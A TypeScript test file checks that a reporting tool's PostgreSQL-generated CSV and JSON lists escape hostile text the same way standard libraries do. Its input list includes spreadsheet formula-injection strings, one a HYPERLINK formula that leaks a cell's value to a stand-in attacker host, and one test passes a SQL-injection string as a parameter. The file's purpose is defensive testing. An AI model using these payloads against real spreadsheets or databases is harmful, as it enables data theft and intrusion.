import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { collectChunks } from '../../src/reconcile/chunks.js';
import { FORMULA_STARTS, listItems, type ListSql, listText, REPORT_CSV_OPTIONS } from '../../src/reconcile/reportLists.js';
import { createTestDatabase, type TestDatabase } from '../helpers/testDatabase.js';

// Text a dossier or a receiver's reply can put in a report's list: what CSV quotes, what JSON
// escapes, characters of several bytes, a NULL, an empty string, what a spreadsheet would run.
const HOSTILE: (string | null)[] = [
  'plain',
  'a,b',
  'a"b',
  '"',
  ',',
  'line\nbreak',
  'cr\rreturn',
  'crlf\r\nend',
  ' lead',
  'trail ',
  '',
  '\\',
  '\\.',
  '\\N',
  'tab\there',
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"D08")',
  '=a,b',
  '+1',
  '-1',
  '-',
  '@SUM(A1)',
  '\tlead tab',
  '\rlead cr',
  '\r\nlead crlf',
  '\uff1d1',
  '\uff0b1',
  '\uff0d1',
  '\uff201',
  '\u22121',
  "'=quoted",
  ' =space',
  "it's",
  'é ü 中文 🙂',
  '\u0001\u0008\u000c\u001f\u007f',
  '\u2028\u2029',
  '</script>',
  null,
];

describe("a report's long lists written by PostgreSQL are the text the writers would make of the items (real PostgreSQL)", () => {
  let db: TestDatabase;
  let rows: { n: number; a: string | null; b: string | null }[];
  beforeAll(async () => {
    db = await createTestDatabase();
    await db.pool.query('CREATE TABLE t (n int PRIMARY KEY, a text, b text)');
    // Every value in both columns, then enough rows that the text arrives in many pieces (a
    // character of several bytes, an item, cut between two of them).
    rows = HOSTILE.flatMap((a, i) => HOSTILE.map((b, j) => ({ n: i * HOSTILE.length + j, a, b })));
    for (let k = rows.length; k < 40_000; k++) rows.push({ n: k, a: `🙂 ${HOSTILE[k % HOSTILE.length] ?? ''}`, b: k % 2 ? 'a🙂'.repeat(k % 40) : HOSTILE[(k * 7) % HOSTILE.length]! });
    await db.pool.query('INSERT INTO t SELECT * FROM json_populate_recordset(NULL::t, $1)', [JSON.stringify(rows)]);
  });
  afterAll(async () => db?.drop());

  const list = (limit?: number): ListSql => ({
    from: 'FROM t',
    orderBy: 'n',
    fields: [
      ['a', 'a'],
      ['b', 'b'],
    ],
    csv: [`'row'`, 'a', 'b'],
    ...(limit === undefined ? {} : { limit }),
  });
  const items = (n = rows.length): { a: string | null; b: string | null }[] => rows.slice(0, n).map(({ a, b }) => ({ a, b }));

  it('writes the CSV rows csv-stringify writes, a formula quoted as a text cell', async () => {
    const csv = await collectChunks(listText(db.pool, list()).csv());
    expect(csv).toBe(
      stringify(
        rows.map((r) => ['row', r.a, r.b]),
        REPORT_CSV_OPTIONS,
      ),
    );
    const cells = parse(csv)
      .slice(0, HOSTILE.length)
      .map((r) => r[2]);
    expect(cells.filter((c) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(c!))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"D08")`);
    expect(cells).toContain("'\r\nlead crlf");
    expect(cells).toContain('\u22121');
    expect(cells).toContain("'=quoted");
  });

  it("quotes a cell for exactly the first characters csv-stringify's escape_formulas does", async () => {
    // Every character of the basic plane but the surrogates, first in a cell.
    const chars = await collectChunks(
      listText(db.pool, { from: 'FROM generate_series(1, 65535) g WHERE g NOT BETWEEN 55296 AND 57343', orderBy: 'g', fields: [], csv: [`'row'`, `chr(g) || 'x'`] }).csv(),
    );
    const all = Array.from({ length: 65535 }, (_, i) => String.fromCharCode(i + 1)).filter((c) => !/[\ud800-\udfff]/.test(c));
    expect(chars).toBe(
      stringify(
        all.map((c) => ['row', `${c}x`]),
        REPORT_CSV_OPTIONS,
      ),
    );
    const quoted = all.filter((c) => stringify([[`${c}x`]], REPORT_CSV_OPTIONS) !== stringify([[`${c}x`]]));
    expect(quoted).toEqual([...FORMULA_STARTS].sort());
  });

  it('writes the JSON array JSON.stringify writes, at any indentation', async () => {
    expect(await collectChunks(listText(db.pool, list()).json(''))).toBe(JSON.stringify(items(), null, 2));
    expect(await collectChunks(listText(db.pool, list(3)).json('    '))).toBe(JSON.stringify(items(3), null, 2).replace(/\n/g, '\n    '));
    expect(await collectChunks(listText(db.pool, list(1)).json('  '))).toBe(JSON.stringify(items(1), null, 2).replace(/\n/g, '\n  '));
    expect(await collectChunks(listText(db.pool, list(0)).json('  '))).toBe('[]');
    expect(() => listText(db.pool, list()).json("' || pg_sleep(1) || '")).toThrow(/indentation is spaces/);
  });

  it('never cuts a character of two UTF-16 units between two pieces (each half written alone would become U+FFFD)', async () => {
    const cut = (pieces: string[]): number => pieces.filter((p) => /[\uD800-\uDBFF]$/.test(p) || /^[\uDC00-\uDFFF]/.test(p)).length;
    for (const text of [listText(db.pool, list()).json('  '), listText(db.pool, list()).csv()]) {
      const pieces: string[] = [];
      for await (const piece of text) pieces.push(piece);
      expect(pieces.length).toBeGreaterThan(20);
      expect(cut(pieces)).toBe(0);
    }
  });

  it('gives the same items, in the same order, to the writers that take items', async () => {
    const got: unknown[] = [];
    for await (const item of listItems(db.pool, list(HOSTILE.length * HOSTILE.length))) got.push(item);
    expect(got).toEqual(items(HOSTILE.length * HOSTILE.length));
  });
});
